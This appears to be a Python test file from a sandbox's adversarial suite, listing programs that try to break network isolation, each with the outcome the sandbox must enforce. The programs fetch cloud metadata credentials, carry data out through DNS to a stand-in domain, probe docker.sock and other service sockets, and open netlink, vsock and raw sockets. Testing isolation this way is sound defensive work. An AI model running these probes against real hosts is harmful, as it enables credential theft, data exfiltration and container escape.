"""Programs that try to reach somebody: the internet, the cloud's own services, this host, other programs."""

# ruff: noqa: E501 - the programs are dense, as an attacker's are

from __future__ import annotations

from tests.adversarial.hostile import Hostile, Protection, held, without

PROGRAMS: tuple[Hostile, ...] = (
    held(
        "connects_by_ipv4_and_ipv6",
        tries="to reach machines elsewhere, by documentation addresses and by those of well-known name servers",
        must="no connection is made and no datagram leaves",
        program="""
        import socket
        for address in (("192.0.2.1", 80), ("1.1.1.1", 53), ("8.8.8.8", 443), ("2001:db8::1", 80), ("2606:4700:4700::1111", 53), ("ff02::1", 9), ("224.0.0.251", 5353)):
            family = socket.AF_INET6 if ":" in address[0] else socket.AF_INET
            def connect():
                with socket.socket(family) as s: s.settimeout(1); s.connect(address)
            attempt(address, connect)
            def send():
                with socket.socket(family, socket.SOCK_DGRAM) as s: s.sendto(b"answers", address)
            attempt(("udp", address), send)
        """,
        without=without(Protection.NETWORK_NAMESPACE),
    ),
    held(
        "connects_to_the_host_by_ipv4",
        tries="to reach a service of the host over its loopback, its bridge and its own address",
        must="the service hears of nobody",
        program="""
        import socket
        for address in HOST["addresses"]:
            def connect():
                with socket.socket() as s: s.settimeout(1); s.connect((address, HOST["tcp"]))
            attempt(address, connect)
        """,
        without=without(Protection.NETWORK_NAMESPACE),
    ),
    held(
        "connects_to_the_host_by_ipv6",
        tries="to reach a service of the host over IPv6, mapped addresses and link-local ones",
        must="the service hears of nobody",
        program="""
        import socket
        targets = [(f"::ffff:{address}", HOST["tcp"]) for address in HOST["addresses"]]
        if HOST["tcp6"]: targets += [("::1", HOST["tcp6"]), ("fe80::1", HOST["tcp6"])]
        for target in targets:
            def connect():
                with socket.socket(socket.AF_INET6) as s: s.settimeout(1); s.connect(target)
            attempt(target, connect)
        """,
        without=without(Protection.NETWORK_NAMESPACE),
    ),
    held(
        "sends_datagrams_to_the_host",
        tries="to send answers to a port of the host, where no reply is needed",
        must="the host receives nothing, whatever the program's own loopback accepts",
        program="""
        import socket
        for address in HOST["addresses"]:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                try: s.sendto(b"answers", (address, HOST["udp"])); s.sendto(b"answers", ("255.255.255.255", HOST["udp"]))
                except OSError: pass
        """,
        without=without(Protection.NETWORK_NAMESPACE),
    ),
    held(
        "asks_the_metadata_services_of_clouds",
        tries="to fetch the machine's own credentials from the addresses that clouds serve them at",
        must="none of them is there",
        program="""
        import socket, urllib.request
        for host in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "[fd00:ec2::254]", "metadata.google.internal"):
            request = urllib.request.Request(f"http://{host}/latest/meta-data/", headers={"Metadata-Flavor": "Google"})
            attempt(host, lambda: urllib.request.urlopen(request, timeout=1).read(100))
            def route():
                with socket.socket(socket.AF_INET6 if "[" in host else socket.AF_INET, socket.SOCK_DGRAM) as s: s.connect((host.strip("[]"), 80))
            attempt(("route", host), route)
        """,
        without=without(Protection.NETWORK_NAMESPACE),
    ),
    held(
        "resolves_names",
        tries="to carry data out in DNS queries, by the resolver's own way",
        must="no name is found, not even those of neighbours in a deployment",
        program="""
        import socket
        for name in ("answers.example.org", "metadata.google.internal", "host.docker.internal", "redis", "postgres"):
            attempt(name, socket.getaddrinfo, name, 80)
        """,
    ),
    held(
        "asks_name_servers_itself",
        tries="to send DNS packets to every server in resolv.conf, to Docker's own and to the usual local ones",
        must="nobody answers and no route leads there",
        program="""
        import socket
        servers = {"127.0.0.11", "127.0.0.53", "172.17.0.1", "10.0.0.2", "9.9.9.9", "fd00::53"}
        try: servers |= {line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")}
        except OSError: pass
        query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x07answers\\x07example\\x03org\\0\\0\\x01\\0\\x01"
        for server in servers:
            def ask():
                with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as s:
                    s.settimeout(0.1); s.connect((server, 53))
                    if not server.startswith("127."): return "a route"
                    s.send(query); return s.recv(512)
            attempt(server, ask)
        """,
        without=without(Protection.NETWORK_NAMESPACE),
    ),
    held(
        "opens_netlink",
        tries="to speak with the kernel about routes, devices, audit and connectors over netlink",
        must="the filter refuses every such socket",
        program="""
        import socket
        for protocol in (0, 4, 6, 9, 11, 12, 15, 16): filtered(f"netlink {protocol}", 41, 198, 16, socket.SOCK_RAW, protocol)
        attempt("pair", lambda: socket.socketpair(16, 3, 0))
        """,
        without=without(Protection.SYSTEM_CALL_FILTER),
    ),
    held(
        "opens_vsock",
        tries="to reach the hypervisor and other guests of it, which no network namespace keeps apart",
        must="the filter refuses the socket, whether or not this machine has a hypervisor",
        program="""
        for kind in (1, 2, 5): filtered(f"vsock {kind}", 41, 198, 40, kind, 0)
        attempt("device", os.open, "/dev/vsock", os.O_RDWR); attempt("host", os.open, "/dev/vhost-vsock", os.O_RDWR)
        """,
        without=without(Protection.SYSTEM_CALL_FILTER),
    ),
    held(
        "opens_raw_and_rare_sockets",
        tries="packet, raw, bluetooth, alg, tipc, can, xdp, rds and kcm sockets, where kernels had their bugs",
        must="the filter refuses every rare family, and raw sockets need a right that is gone",
        program="""
        for family, kind, protocol in ((17, 3, 768), (17, 2, 768), (31, 3, 1), (38, 5, 0), (30, 1, 0), (29, 3, 1), (44, 3, 0), (21, 5, 0), (41, 5, 0), (43, 1, 0)):
            filtered(family, 41, 198, family, kind, protocol)
        for family in (2, 10): filtered(("raw", family), 41, 198, family, 3, 1)
        """,
        without=without(Protection.SYSTEM_CALL_FILTER),
    ),
    held(
        "counts_the_networks",
        tries="to see an interface, a route, a neighbour or a connection that is not its own",
        must="there is a loopback of its own and nothing else",
        program="""
        import socket
        got += [line.split(":")[0].strip() for line in open("/proc/net/dev") if ":" in line and "lo:" not in line]
        got += [line for line in open("/proc/net/route").read().splitlines()[1:]]
        for name in ("tcp", "tcp6", "udp", "udp6", "arp"):
            if os.path.exists(f"/proc/net/{name}"): got += open(f"/proc/net/{name}").read().splitlines()[1:]
        """,
        without=without(Protection.NETWORK_NAMESPACE),
    ),
    held(
        "makes_an_interface",
        tries="to set up a tunnel, to change its loopback's address and to read the hardware's",
        must="there is no tunnel device, and the calls need a right that is gone",
        program="""
        import fcntl, socket, struct
        attempt("tun", os.open, "/dev/net/tun", os.O_RDWR)
        request = struct.pack("16sH2s4s8s", b"lo", 2, b"", socket.inet_aton("10.9.8.7"), b"")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            attempt("address", fcntl.ioctl, s, 0x8916, request); attempt("flags", fcntl.ioctl, s, 0x8914, request)
            for name in {"eth0", *(line.split(":")[0].strip() for line in open("/proc/net/dev") if ":" in line)} - {"lo"}:
                attempt(("hardware", name), fcntl.ioctl, s, 0x8927, struct.pack("40s", name.encode()))
        """,
        without=without(Protection.NETWORK_NAMESPACE),
    ),
    held(
        "looks_for_sockets_of_services",
        tries="to connect to the sockets of Docker, containerd, databases and system services at their usual places",
        must="none of them is there, and the kernel's list of sockets shows none",
        program="""
        import socket
        paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/user/0/bus", "/run/systemd/private",
                 "/var/run/postgresql/.s.PGSQL.5432", "/var/run/redis/redis.sock", "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0", "\\0containerd-shim"]
        for path in paths:
            def connect():
                with socket.socket(socket.AF_UNIX) as s: s.connect(path)
            attempt(path, connect)
            attempt(("there", path), lambda: os.stat(path).st_mode)
        got += [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if len(line.split()) > 7]
        """,
        without=without(Protection.NETWORK_NAMESPACE),
    ),
    held(
        "searches_for_unix_sockets",
        tries="to connect to every socket in every folder that it can read, and to one whose place it knows",
        must="there is none",
        program="""
        import socket, stat
        found = [HOST["socket"]]
        for folder, folders, files in os.walk("/"):
            folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/usr", "/python", "/site")]
            found += [path for path in (os.path.join(folder, name) for name in files) if stat.S_ISSOCK(os.lstat(path).st_mode)]
        for path in found:
            def connect():
                with socket.socket(socket.AF_UNIX) as s: s.connect(path)
            attempt(path, connect)
        """,
        without=without(Protection.HIDDEN_FOLDERS),
    ),
    held(
        "calls_an_abstract_socket_of_the_host",
        tries="to connect to a socket without a file, which no mount namespace hides",
        must="the service hears of nobody",
        program="""
        import socket
        def connect():
            with socket.socket(socket.AF_UNIX) as s: s.connect("\\0" + HOST["abstract"])
        attempt("abstract", connect)
        """,
        without=without(Protection.NETWORK_NAMESPACE),
    ),
)
